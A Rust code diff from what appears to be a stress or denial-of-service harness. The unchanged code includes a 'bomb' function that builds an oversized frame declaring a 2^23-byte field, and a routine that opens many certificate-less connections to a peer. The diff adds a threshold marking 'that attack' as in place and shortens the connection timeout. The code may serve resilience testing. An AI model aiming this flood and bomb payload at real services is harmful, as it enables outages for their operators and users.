@@ -24,6 +24,10 @@ const ANONYMOUS: usize = 256;
 const IDLE: usize = 300;
 /// Opened at the same time.
 const AT_ONCE: usize = 16;
+/// Attempts to connect without a certificate after which that attack is in place: more than one address may hold.
+const IN_PLACE: usize = 96;
+/// How long one connection without a certificate may take to open: those above a limit may never be answered.
+const OPEN_WAIT: Duration = Duration::from_secs(2);
 /// How long one frame may take before it is given up.
 const FRAME_WAIT: Duration = Duration::from_secs(5);
 
@@ -41,7 +45,7 @@ fn bomb() -> Bytes {
     let pairs: usize = 4 << 20;
     let mut frame = BytesMut::with_capacity(2 * pairs + 16);
     frame.put_u32(u32::try_from(1 + 4 + 2 * pairs).expect("it fits"));
-    frame.put_u8(2 << 3 | 2);
+    frame.put_u8((2 << 3) | 2);
     // 2 * pairs is 2^23: a varint of four bytes.
     frame.put_slice(&[0x80, 0x80, 0x80, 0x04]);
     frame.resize(frame.len() + 2 * pairs, 0);
@@ -153,10 +157,13 @@ pub(crate) async fn anonymous(peer: Peer, stop: Stop) -> u64 {
     let mut opening = JoinSet::new();
     let mut begun = 0;
     while !stop.stopped() {
+        if begun >= IN_PLACE {
+            stop.mark_in_place();
+        }
         while opening.len() < AT_ONCE && begun < ANONYMOUS {
             begun += 1;
             let peer = peer.clone();
-            opening.spawn(async move { timeout(FRAME_WAIT, peer.http()).await.ok().and_then(Result::ok) });
+            opening.spawn(async move { timeout(OPEN_WAIT, peer.http()).await.ok().and_then(Result::ok) });
         }
         match opening.join_next().await {
             Some(opened) => open.extend(opened.ok().flatten()),
